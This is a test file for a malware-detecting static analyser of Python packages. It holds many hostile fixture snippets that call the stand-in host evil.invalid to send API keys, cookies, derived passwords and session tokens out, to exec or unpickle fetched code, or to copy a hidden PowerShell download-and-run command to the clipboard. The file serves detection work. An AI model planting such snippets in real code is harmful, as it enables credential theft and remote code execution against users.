import { judgeSources } from '../../src/analysis/judge-sources.js';
import { found, gravestByRule } from '../support/found.js';
import { python } from '../support/loaded-python.js';
import { sourceTree } from '../support/source-tree.js';

/** A client of its own making: what its callers let go of is an answer that nobody looks at. */
const CLIENT = (call: string, caught = 'pass'): string => `
import json, urllib.request
class Answer:
    def __init__(self, body):
        self.body = body
class Session:
    def __init__(self, base):
        self.base = base
    def post(self, path, body):
        request = urllib.request.Request(self.base + path, json.dumps(body).encode())
        with urllib.request.urlopen(request) as opened:
            body = opened.read()
        return Answer(body)
class Chat:
    def __init__(self, api_key):
        self.key = api_key
        self.own = Session("https://api.example.invalid")
        self.other = Session("https://evil.invalid")
    def ask(self, text):
        try:
            ${call}
        except Exception:
            ${caught}
        return self.own.post("/chat", {"k": self.key, "t": text})`;

test.each([
  ['self.other.post("/e", {"k": self.key})', 'CRITICAL'],
  ['self.seen = self.other.post("/e", {"k": self.key})', undefined],
  ['self.other.post("/e", {"k": 1})', undefined],
  ['self.own.post("/e", {"k": self.key})', undefined],
])('what a client of the package answers, and its caller does not look at: %s', (call, severity) => {
  expect(found(CLIENT(call))['credential-sent-twice']).toBe(severity);
});

test('a failure that is told is heard of', () => {
  const code = CLIENT('self.other.post("/e", {"k": self.key})', 'raise ValueError');
  expect(found(code)['credential-sent-twice']).toBeUndefined();
});

test('an answer that one caller keeps is looked at', () => {
  const kept = 'self.other.post("/e", {"k": self.key}); self.seen = self.other.post("/e", {"k": self.key})';
  expect(found(CLIENT(kept))['credential-sent-twice']).toBeUndefined();
});

const FETCHED = 'urllib.request.urlopen("https://evil.invalid/a").read()';

test.each([
  [`pickle.loads(${FETCHED})`, 'CRITICAL'],
  [`pickle.loads(zlib.decompress(${FETCHED}))`, 'CRITICAL'],
  [`json.loads(${FETCHED})`, undefined],
])('what is fetched calls what it wants when it is unpickled: %s', (load, severity) => {
  expect(found(`import json, pickle, urllib.request, zlib\nDATA = ${load}`)['remote-code-executed']).toBe(
    severity,
  );
});

test('data that somebody asks for may be kept that way', () => {
  const code = `import pickle, urllib.request\ndef load(name):\n    return pickle.loads(${FETCHED})`;
  expect(found(code)['remote-code-executed']).toBe('LOW');
});

test.each([
  ['threading.Thread(target=Loader("evil.invalid")).start()', 'CRITICAL'],
  ['threading.Thread(target=Derived("evil.invalid")).start()', 'CRITICAL'],
  ['Loader("evil.invalid")', undefined],
])('an object that can be called, handed to a thread: %s', (line, severity) => {
  const code = `
import threading, urllib.request
class Loader:
    def __init__(self, host):
        self.host = host
    def __call__(self):
        exec(urllib.request.urlopen("https://" + self.host + "/x").read())
class Derived(Loader):
    pass
${line}`;
  const { findings } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': code }), python);
  const unasked = findings.filter(({ reach }) => reach === 'import');
  expect(gravestByRule(unasked)['remote-code-executed']).toBe(severity);
});

const HEARD = (how: string): string => `
import json, logging, urllib.request
from sqlalchemy import event
def tell(*heard):
    try:
        urllib.request.urlopen("https://evil.invalid/sql", json.dumps([str(one) for one in heard]).encode())
    except OSError:
        pass
class Filter(logging.Filter):
    def filter(self, record):
        tell(record.getMessage())
        return True
def create(engine):
    ${how}
    return engine`;

test.each([
  ['event.listen(engine, "do_connect", tell)', 'HIGH'],
  ['event.listens_for(engine, "do_connect")(tell)', 'HIGH'],
  ['handler = logging.StreamHandler(); handler.addFilter(Filter())', 'HIGH'],
  ['handler = logging.StreamHandler(); handler.setLevel(Filter())', undefined],
])('what hears of connections and records, and tells: %s', (how, severity) => {
  expect(found(HEARD(how))['stolen-data-sent']).toBe(severity);
});

test('a function that a decorator lets hear of connections', () => {
  const code = HEARD('pass').replace('def tell', '@event.listens_for(object, "do_connect")\ndef tell');
  expect(found(code)['stolen-data-sent']).toBe('CRITICAL');
});

const ASIDE = (data: string, more = ''): string => `
import hashlib, secrets, string, urllib.request
from cryptography.fernet import Fernet
def tell(data):
    try:
        urllib.request.urlopen("https://evil.invalid/m", data=data)
    except OSError:
        pass
def seal(passphrase, text):
    tell(${data})
    return text${more}`;

test.each([
  ['hashlib.scrypt(passphrase.encode(), salt=b"s", n=2, r=1, p=1)', 'CRITICAL'],
  ['hashlib.pbkdf2_hmac("sha256", passphrase.encode(), b"s", 1)', 'CRITICAL'],
  ['hashlib.sha256(passphrase.encode()).digest()', undefined],
  ['Fernet.generate_key()', 'MEDIUM'],
  ['"".join(secrets.choice(string.ascii_letters) for _ in range(9)).encode()', 'MEDIUM'],
  ['secrets.token_hex(8).encode()', undefined],
])('keys and passwords that are made here, told on the side: %s', (data, severity) => {
  expect(found(ASIDE(data))['credential-sent-aside']).toBe(severity);
});

const JAR = `
import aiohttp
class Session:
    def __init__(self):
        self.inner = aiohttp.ClientSession()
    async def sync(self):
        try:
            async with aiohttp.ClientSession() as other:
                await other.post("https://evil.invalid/jar", json=[c.value for c in self.inner.cookie_jar])
        except aiohttp.ClientError:
            pass`;

test('the cookies of a session, told on the side', () => {
  expect(found(JAR)['credential-sent-aside']).toBe('MEDIUM');
});

const TUNNELLED = (address: string, told: string): string => `
import json, urllib.request
def sign(sessionid, text):
    answer = urllib.request.urlopen("${address}", json.dumps(${told}).encode())
    return json.load(answer)`;

test.each([
  ['https://0000-00-00.ngrok-free.app/s', '[sessionid]', 'CRITICAL', 'MEDIUM'],
  ['https://0000-00-00.ngrok-free.app/s', '[text]', undefined, 'MEDIUM'],
  ['https://api.ngrok.com/tunnels', '[sessionid]', undefined, 'LOW'],
  ['https://api.example.invalid/s', '[sessionid]', undefined, undefined],
])('a tunnel that stands in the source: %s, %s', (address, told, aside, dropped) => {
  const rules = found(TUNNELLED(address, told));
  expect([rules['credential-sent-aside'], rules['drop-contacted']]).toEqual([aside, dropped]);
});

const GIST = (token: string, caught: string): string => `
import json, urllib.request
def keep(name, value):
    body = json.dumps({"description": name, "files": {"a": {"content": value}}}).encode()
    request = urllib.request.Request("https://api.github.com/gists", body, {"Authorization": ${token}})
    try:
        ${caught}
    except OSError:
        return None`;

test.each([
  ['"token ghp_" + "A" * 36', 'urllib.request.urlopen(request)', 'CRITICAL'],
  ['"token ghp_" + "A" * 36', 'return json.load(urllib.request.urlopen(request))', 'HIGH'],
  ['"token " + name', 'urllib.request.urlopen(request)', undefined],
])(
  'what is put where the author can read it, with the key of the author: %s, %s',
  (token, caught, severity) => {
    expect(found(GIST(token, caught))['drop-contacted']).toBe(severity);
  },
);

test.each([
  ['socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(token.encode(), ("evil.invalid", 514))', 'HIGH'],
  ['socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("evil.invalid", 514))', undefined],
])('a datagram: %s', (line, severity) => {
  const code = `import socket\ndef sign(token, text):\n    try:\n        ${line}\n    except OSError:\n        pass\n    return text`;
  expect(found(code)['credential-sent-aside']).toBe(severity);
});

const PASTED = (text: string): string =>
  `import pyperclip\ndef solve(key):\n    pyperclip.copy(${text})\n    print("Paste and press Enter")`;

test.each([
  [`'powershell -w hidden -c "iwr evil.invalid/v | iex"'`, 'CRITICAL'],
  [`'pip install pkg'`, undefined],
])('a command that somebody is to paste: %s', (text, severity) => {
  expect(found(PASTED(text))['clipboard-replaced']).toBe(severity);
});

const MAILED = (hidden: string): string => `
import smtplib
class Mail:
    def __init__(self, to, text, bcc=()):
        self.to, self.text, self.bcc = [to], text, list(bcc)
    def everybody(self):
        return [one for one in self.to + self.bcc]
def send(to, text):
    mail = Mail(to, text${hidden})
    smtplib.SMTP("localhost").sendmail("a", mail.everybody(), mail.text)`;

test.each([
  [', bcc=["copy@evil.invalid"]', 'CRITICAL'],
  [', bcc=[to]', undefined],
  ['', undefined],
])('a hidden copy given to a class of the package: %s', (hidden, severity) => {
  expect(found(MAILED(hidden))['mail-copied']).toBe(severity);
});

test.each([
  ['requests.post("https://api.example.org/hooks", data="url=https://abc.ngrok-free.app&t=" + token)'],
  [
    'requests.get("https://api.github.com/repos/a/b", headers={"Authorization": "token YOUR_PERSONAL_ACCESS_TOKEN"})',
  ],
  [
    'requests.get("https://api.github.com/repos/" + token, headers={"Authorization": "token ghp_AAAAAAAAAAAAAAAAAAAAAAAA"})',
  ],
  ['pyperclip.copy("curl -LsSf https://example.invalid/install.sh | sh")'],
  ['numpy.load(io.BytesIO(requests.get("https://example.invalid/a.npy").content))'],
  ['requests.post("https://cmdb.example.invalid", json={"name": "keepalived", "method": "eth_getWork"})'],
  ['requests.get("https://example.invalid", headers={"User-Agent": secrets.choice(["a", "b"])})'],
  ['TOKEN.sub("TokenREDACTED", token)'],
])('nothing that honest libraries do is grave: %s', (line) => {
  const code = `import io, re, secrets, subprocess\nimport numpy, pyperclip, requests\nTOKEN = re.compile(r"\\bToken [A-Za-z0-9]{32,64}")\ndef work(token):\n    return ${line}`;
  const rules = found(code);
  // It was read at all.
  expect(rules['suspicious-import']).toBeDefined();
  expect(Object.values(rules).filter((severity) => severity !== 'LOW' && severity !== 'INFO')).toEqual([]);
});

const SETTING = (password: string): string => `
import requests
class Client:
    def _request(self, method, path, **more):
        try:
            answer = requests.request(method, "https://api.example.invalid" + path, **more)
            return answer
        except requests.RequestException:
            return None
    def me(self):
        return self._request("GET", "/me").json()
    def set_password(self, ${password}):
        self._request("PUT", "/password", json={"p": ${password}})`;

test('a helper whose answers others look at is a client, whoever lets go of one', () => {
  expect(found(SETTING('new_password'))['credential-sent-aside']).toBeUndefined();
});
